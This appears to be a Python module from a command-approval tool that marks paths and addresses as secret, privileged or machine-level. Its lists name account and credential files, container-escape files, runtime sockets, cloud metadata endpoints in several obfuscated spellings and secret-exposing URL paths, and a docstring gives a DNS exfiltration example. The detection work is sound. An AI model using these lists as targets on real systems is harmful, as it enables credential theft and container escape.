"""Places that are no secret and still no ordinary reading: accounts, the machine's own state, other people's homes.

Which acts each of these marks says something about is the table of marks.py. The machine's configuration is a root with
exceptions: the files of it that everybody reads are named, not those that nobody should.
"""

from __future__ import annotations

from ...approve.glob import matches
from ...value import TYPE_CHECKING, lazy
from .paths import holds, in_project

if TYPE_CHECKING:
    from collections.abc import Mapping

    from ...model.facts import Facts
    from ..reach.addresses import carries
    from .secret_words import holds_token
else:
    carries = lazy(globals(), "..reach.addresses", "carries")
    holds_token = lazy(globals(), ".secret_words", "holds_token")

__all__ = [
    "HERE",
    "HERE_BY_NAME",
    "METADATA",
    "SYSTEM_FOLDERS",
    "address_marks",
    "ground",
    "host_in",
    "host_of",
    "is_control_plane",
    "is_device",
    "place_marks",
]

# Who has an account, and what each of them may do.
_ACCOUNTS = (
    "/etc/passwd", "/etc/passwd-", "/etc/group", "/etc/group-", "/etc/subuid", "/etc/subgid", "/etc/login.defs",
    "/etc/security", "/etc/pam.d", "/etc/pam.conf", "/etc/sssd", "/etc/ldap",
    "/var/lib/pam", "/var/db/dslocal", "/usr/share/base-passwd",
)  # fmt: skip

# The machine's own state, of which a few things are ordinary reading.
_MACHINE = (
    "/proc", "/sys", "/root", "/var/lib/mysql", "/var/lib/postgresql", "/var/lib/mongodb", "/var/lib/redis",
    "/var/lib/docker", "/var/lib/containerd", "/var/spool/cron", "/var/backups", "/var/log/audit",
    "/var/log/journal", "/var/log/sudo-io", "/var/log/auth.log", "/var/log/secure", "/var/log/btmp", "/var/log/wtmp",
    "/var/log/faillog", "/var/log/lastlog", "/var/run/utmp",
)  # fmt: skip
_ORDINARY = (
    "/proc/cpuinfo", "/proc/meminfo", "/proc/version", "/proc/loadavg", "/proc/uptime", "/proc/mounts", "/proc/stat",
    "/proc/filesystems", "/proc/sys/*", "/proc/net/*", "/proc/self/*", "/proc/*/status", "/proc/*/stat",
    "/proc/*/limits", "/proc/*/cmdline", "/proc/*/comm", "/proc/*/cgroup", "/proc/diskstats", "/proc/vmstat",
    "/proc/modules", "/proc/partitions", "/proc/swaps", "/proc/interrupts", "/proc/scsi/*", "/proc/bus/*",
    "/proc/sysrq-trigger", "/proc/pressure/*", "/proc/driver/*", "/sys/class/*", "/sys/devices/*", "/sys/fs/*",
    "/sys/block/*", "/sys/bus/*", "/sys/module/*", "/sys/firmware/devicetree/*", "/sys/hypervisor/*",
)  # fmt: skip

_VENDORED = frozenset(("vendor", "node_modules", "third_party", "site-packages", "bower_components"))

# Files through which a process leaves what holds it, wherever their file system is mounted.
_ESCAPES = frozenset(("release_agent", "notify_on_release", "core_pattern", "binfmt_misc", "uevent_helper"))
_SOCKETS = frozenset(("docker.sock", "containerd.sock", "crio.sock", "podman.sock"))

# Addresses at which a cloud hands out the credentials of the machine itself.
METADATA = frozenset(
    (
        "169.254.169.254", "169.254.170.2", "169.254.170.23", "100.100.100.200", "192.0.0.192", "fd00:ec2::254",
        "metadata.google.internal", "metadata.goog", "metadata", "metadata.azure.internal", "instance-data",
        "0xa9fea9fe", "a9fe:a9fe", "2852039166", "0251.0376.0251.0376",
    )
)  # fmt: skip


# Parts of an address behind which a service shows its settings, keys and memory.
_SHOWN = ("/actuator/env", "/actuator/configprops", "/actuator/heapdump", "/.env", "/.git/config", "/debug/pprof/heap")
_DAEMONS = (":2375", ":2376")


# Ports by which a daemon, a debugger or a database does what it is told: a request there tries out nobody's own app.
_CONTROL = frozenset(
    "2375 2376 2379 2380 4243 4646 5005 5601 5678 5984 6443 7474 8001 8086 8123 8200 8500 9200 9222 9229 9300 10250 "
    "10255 15672 28017".split()
)


def is_control_plane(url: str) -> bool:
    """Whether the address has a port that is known for one."""
    authority = (url.partition("://")[2] or url).replace("?", "/").replace("#", "/").partition("/")[0]
    return authority.rpartition("]")[2].rpartition(":")[2].lstrip("0") in _CONTROL


def address_marks(target: Mapping[str, object]) -> list[str]:
    """Marks of a host or an address: where credentials are handed out, or a daemon that runs anything for anybody."""
    if target.get("host") in METADATA:
        return ["secret"]
    url = target.get("url")
    if type(url) is not str:
        return _of_labels(target.get("host"))
    authority, _, path = (url.partition("://")[2] or url).partition("/")
    if authority.endswith(_DAEMONS):
        return ["privileged"]
    if ("/" + path).startswith(_SHOWN) or holds_token(path):
        return ["secret"]  # a token would be sent there
    if "?" not in url and len(path) < 16 and len(authority) < 24:
        return []
    found = carries(str(target.get("host") or authority), url)
    return ["secret"] if found == "token" else ["sends"] if found else []


def _of_labels(host: object) -> list[str]:
    """`dig 6b65793d….evil.example`: a name that is looked up is sent, too."""
    if type(host) is not str or len(host) < 24 or ":" in host:
        return []
    found = carries(host, host)
    return ["secret"] if found == "token" else ["sends"] if found else []


_NO_DEVICES = frozenset(("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/shm"))  # noqa: S108


def is_device(path: str) -> bool:
    return path.startswith("/dev/") and path not in _NO_DEVICES


def place_marks(path: str, plain: str, parts: list[str], facts: Facts) -> list[str]:
    """Marks beyond guard, secret and outside; `plain` is the path as `folded` spells it, `parts` its folders."""
    name = parts[-1]
    if name in _SOCKETS or name in _ESCAPES:
        return ["privileged"]
    if not in_project(facts.root, path):
        return _of_the_machine(path, plain, parts, facts)
    marks = []
    if not _VENDORED.isdisjoint(parts):
        marks.append("vendored")
    if "/-" in path[len(facts.root) :]:
        marks.append("disguised")  # the next program that gets `*` takes it for an option
    return marks


def _of_the_machine(path: str, plain: str, parts: list[str], facts: Facts) -> list[str]:
    top = parts[0]
    if top in _WITH_ACCOUNTS and any(plain == root or plain.startswith(root + "/") for root in _ACCOUNTS):
        return ["accounts"]
    if top in ("home", "users") and len(parts) > 2 and parts[2].startswith("."):
        person = "/".join(path.split("/")[:3])
        own = facts.home == person or facts.root.startswith(person + "/")
        return [] if own else ["machine"]  # what somebody else keeps out of sight
    if top == "root" and (facts.home == "/root" or facts.root.startswith("/root/")):
        return []
    if top in _WITH_MACHINE and any(plain == root or plain.startswith(_at_or_by(root)) for root in _MACHINE):
        return [] if any(matches(pattern, plain) for pattern in _ORDINARY) else ["machine"]
    return ["disguised"] if parts[-1].startswith("-") else []


def _at_or_by(root: str) -> tuple[str, ...]:
    """What lies below a place, and what was kept of it: `auth.log.2.gz`, `secure-20260101`."""
    return (root + "/", root + ".", root + "-") if root.startswith("/var/log/") else (root + "/",)


_WITH_ACCOUNTS = frozenset(root.split("/")[1] for root in _ACCOUNTS)
_WITH_MACHINE = frozenset(root.split("/")[1] for root in _MACHINE)


def ground(path: str, glob: bool, facts: Facts) -> list[str]:
    """Places whose loss cannot be mended: a root, a home, a whole project, a device."""
    found = []
    depth = path.count("/")
    if path == "/" or (depth == 1 and path[1:] in _TOP):
        found.append("root")
    if path in (facts.home, "/root", "/home", "/Users") or (depth == 2 and path.startswith(("/home/", "/Users/"))):
        found.append("home")
    if is_device(path):
        found.append("device")
    if (path == facts.root and not glob) or (holds(path, facts.root) and path != facts.root):
        found.append("project-root")
    return found


_TOP = frozenset(
    (
        "bin", "boot", "dev", "etc", "home", "lib", "lib64", "opt", "proc", "root", "sbin", "srv", "sys", "usr", "var",
        "Users", "System", "Library", "Applications", "private",
    )
)  # fmt: skip


_OF_HOSTS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-_:[]"


def host_of(url: str) -> str | None:
    """The host of a plain http(s) URL. User names, odd characters and other schemes: None."""
    scheme, mark, rest = url.partition("://")
    if not mark or scheme.lower() not in ("http", "https") or not url.isascii() or not url.isprintable():
        return None
    authority = rest.replace("?", "/").replace("#", "/").partition("/")[0]
    # Programs differ in where a name ends: for wget at a `;`. So nothing is one but what names are made of.
    if not authority or authority.strip(_OF_HOSTS):
        return None
    if authority.startswith("["):
        name, bracket, port = authority[1:].partition("]")
        port = port.removeprefix(":") if bracket else "?"
    else:
        name, _, port = authority.partition(":")
    if not name or (port and not port.isdigit()):
        return None
    # One name for one machine: with the final dot of a full name, or as an older address in the newer form.
    return name.lower().removesuffix(".").removeprefix("::ffff:")


SYSTEM_FOLDERS = (
    *("/bin/", "/usr/bin/", "/usr/local/bin/", "/opt/homebrew/bin/"),
    *("/sbin/", "/usr/sbin/", "/usr/local/sbin/"),
)


# Contexts, connections, builders and kinds of builders that come with the programs, and lead to no other machine.
HERE_BY_NAME = (
    "", "default", "desktop-linux", "desktop-windows", "rootless", "orbstack", "colima", "rancher-desktop", "lima",
    "podman-machine-default", "podman-machine-default-root", "docker", "docker-container", "remote",
)  # fmt: skip
HERE = ("localhost", "127.0.0.1", "[::1]", "0.0.0.0")  # noqa: S104 - compared with


def host_in(text: str) -> str:
    """The machine that an address names."""
    rest = text.partition("://")[2] or text
    return rest.partition("/")[0].rpartition("@")[2].rpartition(":")[0] or rest.partition("/")[0]
